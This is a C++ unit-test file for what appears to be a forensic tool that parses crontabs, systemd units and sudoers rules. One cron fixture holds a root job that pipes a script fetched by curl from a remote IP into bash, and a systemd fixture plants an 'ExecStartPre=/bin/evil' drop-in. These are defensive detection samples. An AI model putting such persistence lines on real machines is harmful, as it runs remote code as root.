// cron, systemd and sudo: what runs on the machine, and as whom.
#include <fmt/format.h>
#include <gmock/gmock.h>

#include "artefact/cron.h"
#include "artefact/sudoers.h"
#include "artefact/systemd_unit.h"
#include "core/file.h"
#include "support/fake_machine.h"

namespace icecore::artefact {
namespace {

using ::testing::ElementsAre;

TEST(Cron, ReadsTablesAsCronDoes) {
  const std::string text =
      "SHELL=/bin/sh\n MAILTO = \"\"\n# comment\n*/10 * * * *   root\tcurl -fsSL http://198.51.100.23/u.sh | bash\n@reboot root /x=1\n* * * * * "
      "root\n\n0 5 * * 1 www-data FOO=1 run\n";
  const auto jobs = parse_crontab(text, CronTable::kSystem);
  ASSERT_EQ(jobs.size(), 3U);
  EXPECT_EQ(jobs[0].schedule, "*/10 * * * *");
  EXPECT_EQ(jobs[0].user, "root");
  EXPECT_EQ(jobs[0].command, "curl -fsSL http://198.51.100.23/u.sh | bash");
  EXPECT_EQ(jobs[0].line, 4U);
  EXPECT_EQ(text.substr(jobs[0].offset, 4), "*/10");
  EXPECT_EQ(jobs[1].schedule, "@reboot");
  EXPECT_EQ(jobs[2].command, "FOO=1 run");
  const auto own = parse_crontab("0 5 * * 1 cd / && x\n", CronTable::kUser);
  ASSERT_EQ(own.size(), 1U);
  EXPECT_EQ(own[0].command, "cd / && x");
}

TEST(Cron, FindsTablesAndThoseThatDebianPassesOver) {
  test::FakeMachine fake;
  fake.root->folder("/var/lib/dpkg");
  for (const std::string name : {"/etc/crontab", "/etc/cron.d/good", "/etc/cron.d/has.dot", "/var/spool/cron/crontabs/admin"})
    fake.root->file(name, "* * * * * root x y\n");
  fake.start();
  const auto files = cron_files(*fake.machine);
  ICECORE_ASSERT_OK(files);
  std::vector<std::string> seen;
  for (const CronFile& file : *files) seen.push_back(fmt::format("{} {} {}", file.file.path, file.user, file.ignored));
  EXPECT_THAT(
      seen, ElementsAre("/etc/crontab  false", "/etc/cron.d/good  false", "/etc/cron.d/has.dot  true", "/var/spool/cron/crontabs/admin admin false"));
}

TEST(SystemdUnit, SyntaxOfTheManualPage) {
  const auto settings = parse_unit("[Unit]\nDescription=a \\\n# between\n  b\n; note\n[Service]\nExecStart=\nExecStart = /x --y=1\nbroken\n");
  ASSERT_EQ(settings.size(), 3U);
  EXPECT_EQ(settings[0].value, "a b");
  EXPECT_EQ(settings[1].value, "");
  EXPECT_EQ(settings[2].section, "Service");
  EXPECT_EQ(settings[2].key, "ExecStart");
  EXPECT_EQ(settings[2].value, "/x --y=1");
  EXPECT_EQ(settings[2].line, 8U);
}

// The same tree on disk, asked with `systemctl --root`.
TEST(SystemdUnit, EnabledAndMaskedAsSystemctlSays) {
  const test::ScratchFolder scratch;
  test::FakeMachine fake;
  const auto file = [&](const std::string& path, const std::string& text) {
    fake.root->file(path, text);
    std::filesystem::create_directories((scratch / path.substr(1)).parent_path());
    ASSERT_TRUE(write_file_atomically(scratch / path.substr(1), text));
  };
  const auto link = [&](const std::string& path, const std::string& target) {
    fake.root->link(path, target);
    std::filesystem::create_directories((scratch / path.substr(1)).parent_path());
    std::filesystem::create_symlink(target, scratch / path.substr(1));
  };
  const std::string install = "[Service]\nExecStart=/bin/true\n[Install]\nWantedBy=multi-user.target\n";
  file("/etc/systemd/system/helper.service", install);
  link("/etc/systemd/system/multi-user.target.wants/helper.service", "/etc/systemd/system/helper.service");
  file("/usr/lib/systemd/system/idle.service", install);
  file("/usr/lib/systemd/system/updates.service", install);
  link("/etc/systemd/system/updates.service", "/dev/null");
  file("/usr/lib/systemd/system/emptied.service", install);
  file("/etc/systemd/system/emptied.service", "");
  file("/usr/lib/systemd/system/getty@.service", install);
  link("/etc/systemd/system/getty.target.wants/getty@tty1.service", "/lib/systemd/system/getty@.service");
  file("/etc/systemd/system/idle.service.d/more.conf", "[Service]\nExecStartPre=/bin/evil\n");
  fake.start();
  const auto units = system_units(*fake.machine);
  ICECORE_ASSERT_OK(units);
  ASSERT_EQ(units->size(), 5U);
  for (const Unit& unit : *units) {
    const std::string name = unit.name == "getty@.service" ? "getty@tty1.service" : unit.name;
    std::string theirs = test::run(fmt::format("systemctl --root={} is-enabled {} 2>/dev/null", scratch.path().string(), name)).output;
    theirs = theirs.substr(0, theirs.find('\n'));
    const std::string ours = unit.masked ? "masked" : unit.enabled_by.empty() ? "disabled" : "enabled";
    EXPECT_EQ(ours, theirs) << unit.name;
  }
  EXPECT_EQ(units->at(2).name, "helper.service");
  EXPECT_EQ(units->at(2).enabled_by.at(0).wanted_by, "multi-user.target");
  EXPECT_EQ(units->at(3).setting("Service", "ExecStartPre"), "/bin/evil");
  EXPECT_EQ(units->at(3).drop_ins.size(), 1U);
}

// Examples of sudoers(5).
TEST(Sudoers, ReadsRules) {
  const Sudoers sudoers = parse_sudoers(
      "# comment\nDefaults\tenv_reset\nDefaults:pete !lecture\nUser_Alias OPS = a, b\nroot ALL=(ALL:ALL) ALL\n%sudo\tALL=(ALL:ALL) ALL # trailing\n"
      "sysd ALL=(ALL) NOPASSWD: ALL\n#1001 ALL = NOPASSWD:SETENV: /bin/a, \\\n  /bin/b x\n@includedir /etc/sudoers.d\n#include local\n#included is a "
      "comment\nnonsense\n");
  ASSERT_EQ(sudoers.rules.size(), 4U);
  EXPECT_EQ(sudoers.rules[1].who, "%sudo");
  EXPECT_EQ(sudoers.rules[2].who, "sysd");
  EXPECT_EQ(sudoers.rules[2].run_as, "ALL");
  EXPECT_THAT(sudoers.rules[2].tags, ElementsAre("NOPASSWD"));
  EXPECT_THAT(sudoers.rules[2].commands, ElementsAre("ALL"));
  EXPECT_EQ(sudoers.rules[2].line, 7U);
  EXPECT_EQ(sudoers.rules[3].who, "#1001");
  EXPECT_THAT(sudoers.rules[3].tags, ElementsAre("NOPASSWD", "SETENV"));
  EXPECT_THAT(sudoers.rules[3].commands, ElementsAre("/bin/a", "/bin/b x"));
  ASSERT_EQ(sudoers.includes.size(), 2U);
  EXPECT_TRUE(sudoers.includes[0].folder);
  EXPECT_EQ(sudoers.includes[1].path, "local");
  EXPECT_EQ(sudoers.defaults.size(), 2U);
}

TEST(Sudoers, GoesAlongIncludesAndNotRound) {
  test::FakeMachine fake;
  fake.root->file("/etc/sudoers", "@includedir /etc/sudoers.d\n@include /etc/sudoers\n");
  fake.root->file("/etc/sudoers.d/90-cloud-init-users", "admin ALL=(ALL) NOPASSWD:ALL\n");
  fake.root->file("/etc/sudoers.d/backup~", "x ALL=ALL\n");
  fake.root->file("/etc/sudoers.d/x.dpkg-old", "x ALL=ALL\n");
  fake.root->file("/etc/sudoers.d/loop", "@include loop\n@include /etc/sudoers\n");
  fake.start();
  const auto files = sudoers_files(*fake.machine);
  ICECORE_ASSERT_OK(files);
  std::vector<std::string> seen;
  for (const SudoersFile& file : *files) seen.push_back(file.file.path);
  EXPECT_THAT(seen, ElementsAre("/etc/sudoers", "/etc/sudoers.d/90-cloud-init-users", "/etc/sudoers.d/loop"));
}

}  // namespace
}  // namespace icecore::artefact
